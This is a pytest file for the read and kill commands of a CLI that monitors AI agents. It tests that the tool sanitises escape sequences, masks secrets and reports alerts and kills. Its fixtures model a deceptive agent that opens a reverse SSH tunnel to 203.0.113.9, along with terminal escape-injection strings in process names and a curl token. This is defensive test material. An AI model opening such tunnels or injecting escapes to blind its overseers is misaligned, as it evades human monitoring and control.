"""What a person sees: every reading command, on a pipe and on a terminal, with an agent that wants to deceive."""

from __future__ import annotations

import re

import pytest

from rubicon.v1 import response_pb2
from tests.controlplane.builders import AGENT
from tests.rubicon.cli.conftest import SECRET, Cli
from tests.rubicon.world import Command, Result, World

COLOUR = re.compile(r"\x1b\[[0-9;]*m")
CONTROL = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e]")
READING = (
    ("ps",),
    ("ps", "-a"),
    ("tree", "rollout"),
    ("tree", "-a", "rollout"),
    ("events", "rollout"),
    ("alerts",),
    ("alerts", "rollout", "--severity", "high"),
    ("coverage",),
)


@pytest.mark.parametrize("command", READING)
def test_nothing_but_our_own_colours_reaches_a_terminal(told: World, cli: Cli, command: tuple[str, ...]) -> None:
    shown = cli(*command, tty=True)
    assert shown.code == 0
    bare = COLOUR.sub("", shown.out)
    assert bare != shown.out or command[0] == "coverage", "there is colour"
    assert not CONTROL.search(bare), bare
    assert max(len(line) for line in bare.splitlines()) <= 100


@pytest.mark.parametrize("command", READING)
def test_no_colour_on_a_pipe(told: World, cli: Cli, command: tuple[str, ...]) -> None:
    done = cli(*command)
    assert (done.code, done.err) == (0, "")
    assert not CONTROL.search(done.out), done.out
    done.out.encode()


def test_no_color_is_kept(told: World, cli: Cli, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("NO_COLOR", "1")
    for command in READING:
        codes = set(COLOUR.findall(cli(*command, tty=True).out))
        assert codes <= {"\x1b[0m", "\x1b[1m", "\x1b[2m", "\x1b[1;2m"}, "bold and dim are no colours"


def test_ps(told: World, cli: Cli) -> None:
    head, line = cli("ps").lines
    assert head.split() == ["ID", "NAME", "STATE", "AGE", "PROCESSES", "ALERTS", "HOST", "LABELS"]
    assert line.split()[:3] == [AGENT, "rollout", "running"]
    assert line.split()[4:] == ["2/2", "2", "(lost", "3)", "rome", "episode=7"]


def test_tree_shows_what_runs_behind_a_name(told: World, cli: Cli) -> None:
    root, child = cli("tree", "rollout").lines
    assert root == "100 bash rollout.sh"
    assert child.startswith("└─ 101 ssh -N -R 8080:localhost:22 u@203.0.113.9")


def test_events_are_one_line_each_and_hostile_words_are_written_out(told: World, cli: Cli) -> None:
    lines = cli("events", "rollout").lines
    assert len(lines) == len(cli("events", "rollout", "--json").lines)
    (hostile,) = (line for line in lines if "name" in line and "exec" in line)
    assert "$'\\ename' $'\\e]0;owned\\x07\\e[2J\\xff\\u202ex'" in hostile
    assert "= /tmp/\\e[31mred" in hostile
    assert any("3 flow records" in line for line in lines)
    assert any(line.endswith("connect   rollout ssh [101] tcp 203.0.113.9:443") for line in lines)


def test_alerts_come_with_their_evidence(told: World, cli: Cli) -> None:
    text = cli("alerts", "rollout", "--severity", "high").out
    assert "high     rollout ssh[101]" in text
    for words in ("command   ssh -N -R", "under     bash[100]", "T1572", "argv"):
        assert words in text


def test_secrets_are_masked_everywhere(told: World, cli: Cli) -> None:
    for command in READING:
        for option in ((), ("--json",)):
            assert SECRET not in cli(*command, *option).out
    events = cli("events", "rollout").out
    assert "curl '--token=***'" in events or "curl --token=***" in events


def test_secrets_are_shown_to_root_who_asks(told: World, cli: Cli) -> None:
    assert f"--token={SECRET}" in cli("events", "rollout", "--show-secrets").out
    told.local.uid = 1000
    for command in (("tree", "rollout"), ("events", "rollout"), ("alerts",), ("alerts", "-f")):
        done = cli(*command, "--show-secrets")
        assert (done.code, done.out) == (4, "")
        assert "only root may see secrets" in done.err


def test_kill_says_what_it_did_and_what_is_left(told: World, cli: Cli) -> None:
    async def partly(_: Command) -> Result:
        left = response_pb2.Survivor(comm="d\x1b[2Jstate", why="in D state: condemned, not yet dead")
        left.id.pid = 101
        return Result(
            response=response_pb2.Response(state=response_pb2.RESPONSE_STATE_APPLIED, killed=1, survivors=[left])
        )

    told.obey = partly
    done = cli("kill", "rollout")
    assert done.code == 6
    assert "killed 1 processes" in done.out
    assert "left: 101 d\\e[2Jstate: in D state: condemned, not yet dead" in done.out
    told.obey = told._obedient
    assert cli("kill", "101", "--reason", "again").code == 0


def test_responses_name_who_and_why(told: World, cli: Cli) -> None:
    assert cli("kill", "rollout", "--reason", "it\x1b[2J tunnels").code == 0
    (line,) = cli("responses", "rollout").lines
    assert re.fullmatch(
        rf"\d\d:\d\d:\d\d\.\d\d\d ✔ verified  kill    {AGENT} by uid 0 .*: it\\e\[2J tunnels  killed 2 processes in 7 ms",
        line,
    ), line
    assert "verified" in cli("responses", tty=True).out
    assert cli("responses", "nobody").code == 5


def test_an_empty_plane(world: World, cli: Cli) -> None:
    assert cli("ps").lines == ["ID  NAME  STATE  AGE  PROCESSES  ALERTS  HOST  LABELS"]
    for command in (("alerts",), ("responses",), ("ps", "--json"), ("alerts", "--json")):
        assert (cli(*command).code, cli(*command).out) == (0, "")
